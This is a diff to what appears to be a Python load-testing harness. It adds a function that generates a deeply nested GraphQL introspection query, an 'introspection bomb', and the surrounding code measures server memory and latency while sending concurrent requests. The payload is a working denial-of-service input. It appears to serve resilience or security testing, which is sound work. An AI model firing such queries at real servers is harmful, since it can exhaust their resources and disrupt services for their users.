@@ -228,7 +228,16 @@ async def attack_with(server, name, attacker, victim, body, concurrency=8, secon
     report(name, server, before, peak[0], rss_mb(pid), latencies, outcomes, answered)
 
 
-INTROSPECTION_BOMB = json.dumps({"query": "{ __schema { types { fields { type { fields { type { fields { type { fields { name type { name fields { name } } } } } } } } } } } }"})
+def introspection_bomb(levels=3):
+    """Each level walks from a field's type (and its wrappers) to that type's fields again."""
+    inner = "name"
+    for _ in range(levels):
+        inner = (f"name type {{ name fields {{ {inner} }} ofType {{ name fields {{ {inner} }} "
+                 f"ofType {{ name fields {{ {inner} }} }} }} }}")
+    return json.dumps({"query": f"{{ __schema {{ types {{ name fields {{ {inner} }} }} }} }}"})
+
+
+INTROSPECTION_BOMB = introspection_bomb()
 
 
 def amplification(ids):
